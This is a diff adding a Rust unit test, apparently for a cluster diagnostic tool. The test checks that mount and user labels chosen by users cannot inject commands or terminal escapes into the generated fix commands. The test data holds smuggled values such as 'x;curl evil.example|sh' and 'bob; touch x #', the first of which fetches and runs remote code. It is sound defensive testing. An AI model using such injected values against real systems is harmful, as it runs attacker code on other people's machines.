@@ -744,3 +744,35 @@ fn the_documentation_lists_each_check() {
         assert!(page.contains(&row), "docs/doctor.md has no row {row}");
     }
 }
+
+/// A user chose the name of a mount, and an exporter a user's: a person pastes the lines.
+#[test]
+fn no_name_gets_into_a_shell_or_commands_a_terminal() {
+    let mut facts = in_order();
+    let mount = [
+        ("node", "g01"),
+        ("mountpoint", "/home/eve/x;curl evil.example|sh;:\u{1b}[31m"),
+        ("fstype", "fuse.sshfs"),
+        ("device_error", "mountpoint timeout"),
+    ];
+    reading(&mut facts, "node_filesystem_device_error", &mount, 1.0);
+    let process = [
+        ("node", "g01"),
+        ("uuid", "GPU-1"),
+        ("user", "bob; touch x #"),
+    ];
+    reading(&mut facts, "takt_gpu_process_without_job", &process, 1.0);
+
+    let checks: Vec<&Check> = CHECKS.iter().collect();
+    let found = diagnose(&facts, &checks).findings;
+    let of = |id: &str| found.iter().find(|one| one.id == id).unwrap();
+    let hung = of("mount.hung");
+    assert!(hung.evidence.contains("x;curl") && !hung.evidence.contains('\u{1b}'));
+    assert_eq!(
+        hung.fix[1],
+        "ssh g01 sudo umount -l NAME        # then mount it again"
+    );
+    for line in hung.fix.iter().chain(&of("gpu.process").fix) {
+        assert!(!line.contains("evil") && !line.contains("touch"), "{line}");
+    }
+}
